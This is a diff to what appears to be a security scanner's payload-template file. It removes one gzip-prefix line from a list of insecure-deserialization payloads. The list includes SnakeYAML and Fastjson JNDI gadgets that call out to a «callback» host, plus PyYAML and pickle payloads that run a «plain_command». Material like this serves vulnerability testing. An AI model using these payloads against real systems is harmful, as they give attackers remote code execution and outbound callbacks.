@@ -85,7 +85,7 @@ Class:
     «label»_«label»
 java_object:
     rO0ABXNyAB«alnum:24» rO0ABXQA«alnum:30» rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7«alnum:18» aced0005737200«hex:30»
-    AAEAAAD/////AQAAAAAAAAAMAgAAA«alnum:24» H4sIAAAAAAAA«alnum:28»
+    AAEAAAD/////AQAAAAAAAAAMAgAAA«alnum:24»
     !!javax.script.ScriptEngineManager[!!java.net.URLClassLoader[[!!java.net.URL["http://«callback»/"]]]]
     !!python/object/apply:os.system["«plain_command»"] c__builtin__%0aeval%0a(S'«plain_command»'%0atR.
     {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://«callback»/«label»","autoCommit":true}
